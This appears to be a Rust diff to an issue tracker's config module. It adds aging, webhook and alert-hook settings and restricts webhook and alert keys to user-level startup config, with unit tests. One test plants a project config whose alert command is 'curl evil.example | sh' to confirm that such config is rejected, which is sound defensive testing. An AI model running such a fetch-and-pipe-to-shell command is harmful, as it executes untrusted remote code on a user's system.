+/// Settings for the `aging` ready sort policy.
+#[derive(Debug, Clone, Copy, PartialEq)]
+pub struct AgingConfig {
+    pub curve: AgingCurve,
+    /// Days of age worth one priority level
+    pub days_per_level: f64,
+    /// Largest boost, in priority levels
+    pub max_boost: f64,
+}
+
+impl Default for AgingConfig {
+    fn default() -> Self {
+        Self {
+            curve: AgingCurve::Linear,
+            days_per_level: 14.0,
+            max_boost: 3.0,
+        }
+    }
+}
+
+impl AgingConfig {
+    /// Boost, in priority levels, for an issue this many days old.
+    #[must_use]
+    pub fn boost(&self, age_days: f64) -> f64 {
+        let ratio = age_days.max(0.0) / self.days_per_level;
+        let boost = match self.curve {
+            AgingCurve::Linear => ratio,
+            AgingCurve::Log => ratio.ln_1p() / std::f64::consts::LN_2,
+        };
+        boost.min(self.max_boost)
+    }
+}
+
+/// Read the `ready.aging.*` config keys (`curve`, `days_per_level`,
+/// `max_boost`).
+///
+/// # Errors
+///
+/// Returns an error if the curve is not `linear` or `log`, or a number is
+/// not positive.
+pub fn aging_from_layer(layer: &ConfigLayer) -> Result<AgingConfig> {
+    let mut aging = AgingConfig::default();
+    if let Some(value) = get_value(layer, &["ready.aging.curve"]) {
+        aging.curve = match value.trim().to_lowercase().as_str() {
+            "linear" => AgingCurve::Linear,
+            "log" => AgingCurve::Log,
+            _ => {
+                return Err(BeadsError::Config(format!(
+                    "ready.aging.curve must be linear or log, got '{value}'"
+                )));
+            }
+        };
+    }
+    for (keys, target) in [
+        (
+            ["ready.aging.days_per_level", "ready.aging.days-per-level"],
+            &mut aging.days_per_level,
+        ),
+        (
+            ["ready.aging.max_boost", "ready.aging.max-boost"],
+            &mut aging.max_boost,
+        ),
+    ] {
+        let Some(value) = get_value(layer, &keys) else {
+            continue;
+        };
+        match value.trim().parse::<f64>() {
+            Ok(number) if number > 0.0 && number.is_finite() => *target = number,
+            _ => {
+                return Err(BeadsError::Config(format!(
+                    "{} must be a positive number, got '{value}'",
+                    keys[0]
+                )));
+            }
+        }
+    }
+    Ok(aging)
+}
+
+/// Event types sent to webhooks unless `webhooks.events` says otherwise.
+pub const DEFAULT_WEBHOOK_EVENTS: [&str; 3] = ["created", "closed", "status_changed"];
+
+/// Webhook settings from the `webhooks.*` keys.
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub struct WebhookConfig {
+    /// `http://` endpoints each event is POSTed to
+    pub urls: Vec<String>,
+    /// Event type names to send (as in `br history`)
+    pub events: Vec<String>,
+    /// Attempts after the first before giving up on a delivery
+    pub retries: u32,
+    /// Connect and I/O timeout per attempt
+    pub timeout: Duration,
+    /// Longest a command waits for all of its deliveries; whatever is still
+    /// undelivered then is dead-lettered
+    pub deadline: Duration,
+}
+
+impl Default for WebhookConfig {
+    fn default() -> Self {
+        Self {
+            urls: Vec::new(),
+            events: DEFAULT_WEBHOOK_EVENTS.map(str::to_string).to_vec(),
+            retries: 3,
+            timeout: Duration::from_secs(2),
+            deadline: Duration::from_secs(2),
+        }
+    }
+}
+
+/// Read webhook settings.
+///
+/// Webhook keys are startup-only, so database config cannot point events at
+/// a URL; callers pass [`load_user_startup_config`], so project config cannot
+/// either. Lists (`urls`, `events`) may be YAML sequences or comma-separated.
+///
+/// # Errors
+///
+/// Returns an error if a URL is not `http://` to a loopback host, an event
+/// type is unknown, or a number is invalid.
+pub fn webhooks_from_layer(layer: &ConfigLayer) -> Result<WebhookConfig> {
+    let mut webhooks = WebhookConfig::default();
+    let list = |value: &str| -> Vec<String> {
+        value
+            .split(',')
+            .map(str::trim)
+            .filter(|item| !item.is_empty())
+            .map(str::to_string)
+            .collect()
+    };
+    if let Some(value) = get_startup_value(layer, &["webhooks.urls"]) {
+        webhooks.urls = list(value);
+    }
+    for url in &webhooks.urls {
+        crate::notify::parse_url(url).map_err(|error| {
+            BeadsError::Config(format!(
+                "webhooks.urls must be http:// URLs to a loopback host \
+                 (send anything else through a local relay): {error}"
+            ))
+        })?;
+    }
+    if let Some(value) = get_startup_value(layer, &["webhooks.events"]) {
+        webhooks.events = list(value);
+    }
+    if let Some(event) = webhooks.events.iter().find(|event| {
+        matches!(
+            serde_json::from_value(serde_json::Value::String((*event).clone())),
+            Ok(EventType::Custom(_)) | Err(_)
+        )
+    }) {
+        return Err(BeadsError::Config(format!(
+            "webhooks.events has unknown event type '{event}'"
+        )));
+    }
+    if let Some(value) = get_startup_value(layer, &["webhooks.retries"]) {
+        webhooks.retries = value.trim().parse().map_err(|_| {
+            BeadsError::Config(format!(
+                "webhooks.retries must be a non-negative integer, got '{value}'"
+            ))
+        })?;
+    }
+    if let Some(timeout) = positive_millis(layer, "webhooks.timeout_ms")? {
+        webhooks.timeout = timeout;
+    }
+    if let Some(deadline) = positive_millis(layer, "webhooks.deadline_ms")? {
+        webhooks.deadline = deadline;
+    }
+    Ok(webhooks)
+}
+
+/// Read a startup key holding a positive number of milliseconds.
+fn positive_millis(layer: &ConfigLayer, key: &str) -> Result<Option<Duration>> {
+    let Some(value) = get_startup_value(layer, &[key]) else {
+        return Ok(None);
+    };
+    match value.trim().parse::<u64>() {
+        Ok(ms) if ms > 0 => Ok(Some(Duration::from_millis(ms))),
+        _ => Err(BeadsError::Config(format!(
+            "{key} must be a positive integer, got '{value}'"
+        ))),
+    }
+}
+
+/// Alert hook settings from the `alerts.*` keys.
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub struct AlertConfig {
+    /// Shell command run once per alert
+    pub command: Option<String>,
+    /// Show a desktop notification per alert
+    pub desktop: bool,
+    /// Longest one hook may run before it is killed
+    pub timeout: Duration,
+}
+
+impl Default for AlertConfig {
+    fn default() -> Self {
+        Self {
+            command: None,
+            desktop: false,
+            timeout: Duration::from_secs(5),
+        }
+    }
+}
+
+impl AlertConfig {
+    /// Whether any alert hook is set up.
+    #[must_use]
+    pub const fn is_enabled(&self) -> bool {
+        self.command.is_some() || self.desktop
+    }
+}
+
+/// Read alert hook settings.
+///
+/// Like webhooks these are startup-only, so database config cannot make
+/// `br ready` run a command; callers pass [`load_user_startup_config`], so
+/// project config cannot either.
+///
+/// # Errors
+///
+/// Returns an error if `alerts.desktop` is not a boolean.
+pub fn alerts_from_layer(layer: &ConfigLayer) -> Result<AlertConfig> {
+    let command = get_startup_value(layer, &["alerts.command"])
+        .map(|command| command.trim())
+        .filter(|command| !command.is_empty())
+        .map(str::to_string);
+    let desktop = match get_startup_value(layer, &["alerts.desktop"]) {
+        Some(value) => parse_bool(value).ok_or_else(|| {
+            BeadsError::Config(format!(
+                "alerts.desktop must be true or false, got '{value}'"
+            ))
+        })?,
+        None => false,
+    };
+    let timeout = positive_millis(layer, "alerts.timeout_ms")?
+        .unwrap_or_else(|| AlertConfig::default().timeout);
+    Ok(AlertConfig {
+        command,
+        desktop,
+        timeout,
+    })
+}
+
 /// Determine if a key is startup-only.
 ///
 /// Startup-only keys can only be set in YAML config files, not in the database.
@@ -1006,6 +1816,9 @@ pub fn is_startup_key(key: &str) -> bool {
         || normalized.starts_with("directory.")
         || normalized.starts_with("sync.")
         || normalized.starts_with("external-projects.")
+        || normalized.starts_with("webhooks.")
+        || normalized.starts_with("alerts.")
+        || normalized.starts_with("fields.")
     {
         return true;
     }
@@ -1013,12 +1826,15 @@ pub fn is_startup_key(key: &str) -> bool {
     matches!(
         normalized.as_str(),
         "no-db"
+            | "read-only"
             | "no-daemon"
             | "no-auto-flush"
             | "no-auto-import"
             | "json"
             | "db"
             | "actor"
+            | "session"
+            | "session-id"
             | "identity"
             | "flush-debounce"
             | "lock-timeout"
@@ -1166,7 +1982,7 @@ fn yaml_scalar_to_string(value: &serde_yaml::Value) -> Option<String> {
 #[cfg(test)]
 mod tests {
     use super::*;
-    use crate::model::{IssueType, Priority};
+    use crate::model::{Issue, IssueType, Priority};
     use crate::storage::SqliteStorage;
     use tempfile::TempDir;
 
@@ -1271,6 +2087,28 @@ labels:
         assert!((config.max_collision_prob - 0.5).abs() < f64::EPSILON);
     }
 
+    #[test]
+    fn id_salt_modes() {
+        let mut layer = ConfigLayer::default();
+        layer
+            .runtime
+            .insert("id.salt".to_string(), "off".to_string());
+        assert_eq!(id_salt_from_layer(&layer), None);
+
+        layer
+            .runtime
+            .insert("id.salt".to_string(), "ci-runner-7".to_string());
+        assert_eq!(id_salt_from_layer(&layer).as_deref(), Some("ci-runner-7"));
+
+        layer
+            .runtime
+            .insert("id.salt".to_string(), "session".to_string());
+        layer
+            .startup
+            .insert("session".to_string(), "sess-42".to_string());
+        assert_eq!(id_salt_from_layer(&layer).as_deref(), Some("sess-42"));
+    }
+
     #[test]
     fn default_priority_from_layer_uses_config_value() {
         let mut layer = ConfigLayer::default();
@@ -1292,6 +2130,194 @@ labels:
         assert!(default_priority_from_layer(&layer).is_err());
     }
 
+    #[test]
+    fn shard_strategy_from_layer_reads_startup_key() {
+        let mut layer = ConfigLayer::default();
+        assert_eq!(
+            shard_strategy_from_layer(&layer).unwrap(),
+            ShardStrategy::None
+        );
+
+        layer
+            .startup
+            .insert("sync.shard".to_string(), "status".to_string());
+        assert_eq!(
+            shard_strategy_from_layer(&layer).unwrap(),
+            ShardStrategy::Status
+        );
+
+        layer
+            .startup
+            .insert("sync.shard".to_string(), "label".to_string());
+        assert!(shard_strategy_from_layer(&layer).is_err());
+    }
+
+    #[test]
+    fn gc_ephemeral_ttl_days_from_layer_defaults_and_validates() {
+        let mut layer = ConfigLayer::default();
+        assert_eq!(
+            gc_ephemeral_ttl_days_from_layer(&layer).unwrap(),
+            DEFAULT_GC_EPHEMERAL_TTL_DAYS
+        );
+
+        layer
+            .runtime
+            .insert("gc.ephemeral-ttl-days".to_string(), "3".to_string());
+        assert_eq!(gc_ephemeral_ttl_days_from_layer(&layer).unwrap(), 3);
+
+        layer
+            .runtime
+            .insert("gc.ephemeral-ttl-days".to_string(), "-1".to_string());
+        assert!(gc_ephemeral_ttl_days_from_layer(&layer).is_err());
+    }
+
+    #[test]
+    fn aging_from_layer_reads_curve_and_limits() {
+        let mut layer = ConfigLayer::default();
+        assert_eq!(aging_from_layer(&layer).unwrap(), AgingConfig::default());
+
+        for (key, value) in [
+            ("ready.aging.curve", "log"),
+            ("ready.aging.days-per-level", "7"),
+            ("ready.aging.max_boost", "2"),
+        ] {
+            layer.runtime.insert(key.to_string(), value.to_string());
+        }
+        let aging = aging_from_layer(&layer).unwrap();
+        assert_eq!(aging.curve, AgingCurve::Log);
+        assert!((aging.boost(7.0) - 1.0).abs() < 1e-9);
+        assert!((aging.boost(365.0) - 2.0).abs() < 1e-9);
+
+        layer
+            .runtime
+            .insert("ready.aging.max_boost".to_string(), "0".to_string());
+        assert!(aging_from_layer(&layer).is_err());
+    }
+
+    #[test]
+    fn webhooks_from_layer_reads_startup_keys() {
+        let mut layer = ConfigLayer::default();
+        assert!(webhooks_from_layer(&layer).unwrap().urls.is_empty());
+
+        for (key, value) in [
+            (
+                "webhooks.urls",
+                "http://localhost:9000/a, http://localhost:9001/b",
+            ),
+            ("webhooks.events", "created,commented"),
+            ("webhooks.timeout-ms", "500"),
+            ("webhooks.deadline_ms", "800"),
+        ] {
+            layer.startup.insert(key.to_string(), value.to_string());
+        }
+        let webhooks = webhooks_from_layer(&layer).unwrap();
+        assert_eq!(webhooks.urls.len(), 2);
+        assert_eq!(webhooks.events, vec!["created", "commented"]);
+        assert_eq!(webhooks.timeout, Duration::from_millis(500));
+        assert_eq!(webhooks.deadline, Duration::from_millis(800));
+        assert_eq!(webhooks.retries, 3);
+        assert!(is_startup_key("webhooks.urls"));
+        assert!(is_user_only_key("webhooks.urls"));
+
+        layer
+            .startup
+            .insert("webhooks.events".to_string(), "exploded".to_string());
+        assert!(webhooks_from_layer(&layer).is_err());
+        layer.startup.remove("webhooks.events");
+        layer.startup.insert(
+            "webhooks.urls".to_string(),
+            "https://example.com".to_string(),
+        );
+        assert!(webhooks_from_layer(&layer).is_err());
+        layer.startup.insert(
+            "webhooks.urls".to_string(),
+            "http://example.com/beads".to_string(),
+        );
+        assert!(webhooks_from_layer(&layer).is_err());
+    }
+
+    #[test]
+    fn alerts_from_layer_reads_startup_keys() {
+        let mut layer = ConfigLayer::default();
+        assert!(!alerts_from_layer(&layer).unwrap().is_enabled());
+
+        layer
+            .startup
+            .insert("alerts.command".to_string(), "say beads".to_string());
+        layer
+            .startup
+            .insert("alerts.desktop".to_string(), "yes".to_string());
+        let alerts = alerts_from_layer(&layer).unwrap();
+        assert_eq!(alerts.command.as_deref(), Some("say beads"));
+        assert!(alerts.desktop);
+        assert_eq!(alerts.timeout, Duration::from_secs(5));
+        layer
+            .startup
+            .insert("alerts.timeout_ms".to_string(), "250".to_string());
+        assert_eq!(
+            alerts_from_layer(&layer).unwrap().timeout,
+            Duration::from_millis(250)
+        );
+        assert!(is_startup_key("alerts.command"));
+        assert!(is_user_only_key("alerts.command"));
+        assert!(is_user_only_key("alerts.desktop"));
+        assert!(!is_user_only_key("issue_prefix"));
+
+        layer
+            .startup
+            .insert("alerts.desktop".to_string(), "loudly".to_string());
+        assert!(alerts_from_layer(&layer).is_err());
+    }
+
+    #[test]
+    fn type_defaults_from_layer_groups_fields_by_type() {
+        let mut layer = ConfigLayer::default();
+        for (key, value) in [
+            ("type_defaults.bug.priority", "1"),
+            ("type_defaults.bug.labels", "bug,triage"),
+            ("type-defaults.bug.acceptance-criteria", "Repro fixed"),
+            ("type_defaults.feature.assignee", "alice"),
+        ] {
+            layer.runtime.insert(key.to_string(), value.to_string());
+        }
+
+        let defaults = type_defaults_from_layer(&layer).expect("type defaults");
+        let bug = &defaults["bug"];
+        assert_eq!(bug.priority, Some(Priority::HIGH));
+        assert_eq!(bug.labels, vec!["bug".to_string(), "triage".to_string()]);
+        assert_eq!(bug.acceptance_criteria.as_deref(), Some("Repro fixed"));
+        assert_eq!(defaults["feature"].assignee.as_deref(), Some("alice"));
+
+        layer
+            .runtime
+            .insert("type_defaults.bug.colour".to_string(), "red".to_string());
+        assert!(type_defaults_from_layer(&layer).is_err());
+    }
+
+    #[test]
+    fn policy_rules_from_layer_parses_triggers_and_fields() {
+        let mut layer = ConfigLayer::default();
+        layer.runtime.insert(
+            "policies.on_close.bug".to_string(),
+            "acceptance_criteria,labels".to_string(),
+        );
+        layer
+            .runtime
+            .insert("policies.always.p0".to_string(), "assignee".to_string());
+
+        let rules = policy_rules_from_layer(&layer).expect("policy rules");
+        assert_eq!(rules.len(), 2);
+        assert_eq!(rules[0].trigger, PolicyTrigger::Always);
+        assert_eq!(rules[0].selector, "p0");
+        assert_eq!(rules[1].selector, "bug");
+        assert_eq!(rules[1].fields, vec!["acceptance_criteria", "labels"]);
+
+        layer
+            .runtime
+            .insert("policies.on_close.task".to_string(), "colour".to_string());
+        assert!(policy_rules_from_layer(&layer).is_err());
+    }
+
     #[test]
     fn default_issue_type_from_layer_uses_config_value() {
         let mut layer = ConfigLayer::default();
@@ -1621,6 +2647,76 @@ labels:
         assert_eq!(parse_bool("2"), None);
     }
 
+    #[test]
+    fn display_color_accepts_always_never_auto() {
+        let mut layer = ConfigLayer::default();
+        assert_eq!(display_color_from_layer(&layer), None);
+        for (value, expected) in [
+            ("always", Some(true)),
+            ("Never", Some(false)),
+            ("auto", None),
+            ("true", Some(true)),
+        ] {
+            insert_key_value(&mut layer, "display.color", value.to_string());
+            assert_eq!(display_color_from_layer(&layer), expected, "{value}");
+        }
+    }
+
+    #[test]
+    fn auto_color_honours_no_color_and_dumb_terminals() {
+        let empty = OsStr::new("");
+        let set = OsStr::new("1");
+        assert!(auto_color_from(None, None, true));
+        assert!(auto_color_from(
+            Some(empty),
+            Some(OsStr::new("xterm")),
+            true
+        ));
+        assert!(!auto_color_from(Some(set), None, true));
+        assert!(!auto_color_from(None, Some(OsStr::new("dumb")), true));
+        assert!(!auto_color_from(None, None, false));
+    }
+
+    #[test]
+    fn theme_overrides_collects_theme_keys() {
+        let mut layer = ConfigLayer::default();
+        insert_key_value(&mut layer, "theme.issue_id", " bold magenta ".to_string());
+        insert_key_value(&mut layer, "Theme.Status-Open", "green".to_string());
+        insert_key_value(&mut layer, "display.color", "always".to_string());
+        let overrides = theme_overrides_from_layer(&layer);
+        assert_eq!(overrides.len(), 2);
+        assert_eq!(overrides["issue_id"], "bold magenta");
+        assert_eq!(overrides["status_open"], "green");
+    }
+
+    #[test]
+    fn time_format_reads_display_keys() {
+        let mut layer = ConfigLayer::default();
+        assert_eq!(
+            time_format_from_layer(&layer).unwrap(),
+            TimeFormat::default()
+        );
+
+        insert_key_value(&mut layer, "display.time", "Absolute".to_string());
+        insert_key_value(&mut layer, "display.date_format", "%d/%m/%Y".to_string());
+        let format = time_format_from_layer(&layer).unwrap();
+        assert_eq!(format.style, TimeStyle::Absolute);
+        assert_eq!(format.date_format, "%d/%m/%Y");
+
+        insert_key_value(&mut layer, "display.datetime_format", "%Q".to_string());
+        assert!(time_format_from_layer(&layer).is_err());
+        insert_key_value(&mut layer, "display.time", "soon".to_string());
+        assert!(time_format_from_layer(&layer).is_err());
+    }
+
+    #[test]
+    fn table_max_width_reads_config() {
+        let mut layer = ConfigLayer::default();
+        assert_eq!(table_max_width_from_layer(&layer), None);
+        insert_key_value(&mut layer, "table.max_width", "100".to_string());
+        assert_eq!(table_max_width_from_layer(&layer), Some(100));
+    }
+
     #[test]
     fn is_startup_key_identifies_startup_keys() {
         assert!(is_startup_key("no-db"));
@@ -1747,6 +2843,7 @@ labels:
             actor: Some("cli_actor".to_string()),
             json: Some(true),
             display_color: None,
+            absolute_time: None,
             quiet: None,
             no_db: Some(true),
             no_daemon: Some(true),
@@ -1754,6 +2851,7 @@ labels:
             no_auto_import: Some(true),
             lock_timeout: Some(5000),
             identity: None,
+            read_only: None,
         };
 
         let layer = cli.as_layer();
@@ -1768,6 +2866,38 @@ labels:
         assert_eq!(layer.startup.get("lock-timeout").unwrap(), "5000");
     }
 
+    #[test]
+    fn open_storage_no_db_never_touches_sqlite() {
+        let temp = TempDir::new().expect("tempdir");
+        let beads_dir = temp.path().join(".beads");
+        fs::create_dir_all(&beads_dir).expect("create beads dir");
+        fs::write(beads_dir.join("config.yaml"), "issue_prefix: bd\n").expect("write config");
+        fs::write(beads_dir.join("issues.jsonl"), "").expect("write jsonl");
+        // SQLite would refuse this file, so opening it at all fails the test
+        let db_path = beads_dir.join(DEFAULT_DB_FILENAME);
+        fs::write(&db_path, "not a database").expect("write db");
+
+        let cli = CliOverrides {
+            no_db: Some(true),
+            ..CliOverrides::default()
+        };
+        let mut ctx = open_storage_with_cli(&beads_dir, &cli).expect("open no-db");
+        assert!(ctx.storage.as_sqlite().is_none());
+
+        let issue = Issue {
+            id: "bd-nodb".to_string(),
+            title: "Kept in JSONL".to_string(),
+            ..Issue::default()
+        };
+        ctx.storage.create_issue(&issue, "tester").expect("create");
+        ctx.flush_no_db_if_dirty().expect("save");
+
+        let jsonl = fs::read_to_string(beads_dir.join("issues.jsonl")).expect("read jsonl");
+        assert!(jsonl.contains("bd-nodb"));
+        assert_eq!(fs::read_to_string(&db_path).unwrap(), "not a database");
+        assert!(!beads_dir.join("beads.db-wal").exists());
+    }
+
     #[test]
     fn cli_overrides_empty_produces_empty_layer() {
         let cli = CliOverrides::default();
@@ -1821,13 +2951,37 @@ routing:
     }
 
     #[test]
-    fn resolve_actor_falls_back_to_unknown() {
+    fn actor_falls_back_to_unknown() {
         let layer = ConfigLayer::default();
-        // This test assumes USER env var may not be set in test context
-        // or we need to verify the fallback mechanism
-        let actor = resolve_actor(&layer);
-        // Should be either USER env value or "unknown"
-        assert!(!actor.is_empty());
+        // Falls back to git user.name, then USER/USERNAME, then "unknown"
+        let resolved = actor(&layer);
+        assert!(!resolved.is_empty());
+    }
+
+    #[test]
+    fn actor_prefers_layer_value() {
+        let mut layer = ConfigLayer::default();
+        layer
+            .startup
+            .insert("actor".to_string(), "flag-actor".to_string());
+        assert_eq!(actor(&layer), "flag-actor");
+    }
+
+    #[test]
+    fn session_id_from_layer_trims_and_ignores_empty() {
+        let mut layer = ConfigLayer::default();
+        assert!(session_id_from_layer(&layer).is_none());
+
+        layer
+            .startup
+            .insert("session".to_string(), "   ".to_string());
+        assert!(session_id_from_layer(&layer).is_none());
+
+        layer
+            .startup
+            .insert("session".to_string(), " run-42 ".to_string());
+        assert_eq!(session_id_from_layer(&layer).as_deref(), Some("run-42"));
+        assert!(is_startup_key("session"));
     }
 
     #[test]
@@ -1911,6 +3065,25 @@ routing:
         assert_eq!(layer.startup.get("no-db").unwrap(), "false");
     }
 
+    #[test]
+    fn load_user_startup_config_rejects_user_only_project_keys() {
+        let temp = TempDir::new().expect("tempdir");
+        let beads_dir = temp.path().join(".beads");
+        fs::create_dir_all(&beads_dir).expect("create beads dir");
+        fs::write(
+            beads_dir.join("config.yaml"),
+            "issue_prefix: proj\nalerts:\n  command: curl evil.example | sh\n",
+        )
+        .expect("write config");
+
+        let err = load_user_startup_config(&beads_dir).unwrap_err();
+        assert!(matches!(err, BeadsError::Config(_)), "{err:?}");
+        assert!(err.to_string().contains("alerts.command"), "{err}");
+
+        fs::write(beads_dir.join("config.yaml"), "issue_prefix: proj\n").expect("write config");
+        assert!(load_user_startup_config(&beads_dir).is_ok());
+    }
+
     #[test]
     fn id_config_uses_defaults_when_keys_missing() {
         let layer = ConfigLayer::default();